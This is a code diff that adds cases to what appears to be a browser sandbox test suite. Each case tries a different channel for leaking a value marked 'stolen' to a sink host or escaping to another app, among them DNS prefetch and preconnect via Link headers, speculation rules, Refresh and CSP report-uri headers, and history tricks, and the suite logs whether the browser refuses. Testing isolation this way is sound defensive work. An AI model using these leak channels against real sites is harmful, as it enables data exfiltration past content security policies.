@@ -27,6 +27,19 @@ const send = (attributes, name = "data", value = "stolen") => {
 const own = (path) => new URL(path, location.href).href;
 const styled = (property, value) => element("div", {}).style.setProperty(property, value);
 const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
+const said = (name, value) => own("said?" + new URLSearchParams({ name, value }));
+const hint = (to, rel) => `<${to}>; rel=${rel}`;
+// Chromium follows such rules for no page in a frame; whether it is let read them is seen by the breach of the policy.
+const speculate = async (rules, got) => {
+  let refused = false;
+  addEventListener("securitypolicyviolation", (event) => { refused ||= event.blockedURI === "inline"; });
+  const script = document.createElement("script");
+  script.type = "speculationrules";
+  script.textContent = JSON.stringify(rules);
+  document.head.append(script);
+  await fetch(own("hostile.css"));
+  if (!refused) got();
+};
 const drawing = () => vector("svg", { width: 40, height: 40 }, document.body);
 
 // --- fetch and its kin
@@ -89,6 +102,8 @@ add("base address", (to) => { element("base", { href: to.sink }, document.head);
 add = at("names", false);
 add("name by DNS prefetch", (to) => element("link", { rel: "dns-prefetch", href: `//${to.name}` }, document.head));
 add("name by preconnect", (to) => element("link", { rel: "preconnect", href: `http://${to.name}` }, document.head));
+add("name by DNS prefetch in a header", (to) => fetch(said("Link", hint(`//${to.name}`, "dns-prefetch"))));
+add("name by preconnect in a header", (to) => fetch(said("Link", hint(`http://${to.name}`, "preconnect"))));
 
 // --- hints
 add = at("hints", false);
@@ -96,6 +111,25 @@ add("prefetch", (to) => element("link", { rel: "prefetch", href: to.sink }, docu
 add("preconnect", (to) => element("link", { rel: "preconnect", href: to.sink }, document.head));
 add("preload", (to) => element("link", { rel: "preload", as: "image", href: to.sink }, document.head));
 add("module preload", (to) => element("link", { rel: "modulepreload", href: to.sink }, document.head));
+add("rules to prefetch are taken", (to, got) => speculate({ prefetch: [{ urls: [to.sink], eagerness: "immediate" }] }, got));
+add("rules to prerender are taken", (to, got) => speculate({ prerender: [{ urls: [to.home], eagerness: "immediate" }] }, got));
+add("preconnect in a header", (to) => fetch(said("Link", hint(to.sink, "preconnect"))));
+
+// --- headers of a page of the app's own: what they do, and whether they arrive where a browser would act on them later or over TLS alone
+add = at("headers", true);
+add("Refresh of a page", (to) => { location = said("Refresh", `0;url=${to.sink}`); });
+add("preload by a page's header", (to) => { location = said("Link", hint(to.sink, "preload") + "; as=image"); });
+add("preconnect by a page's header", (to) => { location = said("Link", hint(to.sink, "preconnect")); });
+add("prefetch by a page's header", (to) => { location = said("Link", hint(to.sink, "prefetch")); });
+add("module preload by a page's header", (to) => { location = said("Link", hint(to.sink, "modulepreload")); });
+add("report of a policy's breach", (to) => {
+  location = said("Content-Security-Policy-Report-Only", `script-src 'none'; report-uri ${to.sink}`);
+});
+add = at("headers", false);
+["Accept-CH", "Alt-Svc", "Document-Policy", "Link", "NEL", "Origin-Trial", "Refresh", "Report-To", "Reporting-Endpoints",
+  "Service-Worker-Allowed", "Set-Login", "Speculation-Rules",
+].forEach((name) => add(name + " arrives", (to, got) =>
+  fetch(said(name, "stolen")).then((answer) => answer.headers.get(name) === "stolen" && got())));
 
 // --- WebRTC
 add = at("WebRTC", true);
@@ -208,7 +242,21 @@ add("page made by a service worker", async (to) => {
   worker.addEventListener("statechange", go);
   go();
 });
+// What a browser lets nobody push, an address of another origin, is no attempt.
 add("history, going back", () => { history.go(-1); history.back(); });
+add("history, back past what was pushed", () => { history.pushState(null, "", own("pushed")); history.go(-2); });
+add("history, back past much that was pushed", () => {
+  for (let n = 0; n < 20; n++) history.pushState(null, "", own("pushed-" + n));
+  history.go(-21);
+});
+add("history, back from another app's likeness", (to) => {
+  history.replaceState(null, "", own("apps/hello"));
+  history.back();
+});
+add("history, back past a fragment", () => { location = "#fragment"; setTimeout(() => history.go(-2)); });
+add("history of an empty frame", () => element("iframe", {}).contentWindow.history.back());
+add("history of a second page", () => { location = said("X-Then", "back") + "#back"; });
+add("history by a javascript: link", () => click({ href: "javascript:history.back()" }));
 
 // --- the home, and other apps
 add = at("home", false);
@@ -232,6 +280,9 @@ add("a message that the home answers", (to, got) => {
 
 add = at("home by navigation", true);
 add("the consent page in the app's place", (to) => { location = to.home + "/catalog/koti/hello?" + to.mark; });
+add("a picture of another app by a page's header", (to) => {
+  location = said("Link", hint(to.other + "/icon.svg?" + to.mark, "preload") + "; as=image");
+});
 add("another app in the app's place", (to) => { location = to.other + "/?" + to.mark; });
 add("the consent page in a popup", (to) => window.open(to.home + "/catalog/koti/hello?" + to.mark, "", "width=200,height=200"));
 add("a form to the home, in the app's place", (to) => send({ action: to.home + "/network?" + to.mark, method: "post" }, "on", "yes"));
@@ -279,3 +330,6 @@ const start = (name, to) => {
     console.log(name + ": " + refusal);
   }
 };
+
+// A second page of the attempt with its history.
+if (location.hash === "#back") addEventListener("load", () => setTimeout(() => history.go(-2)));
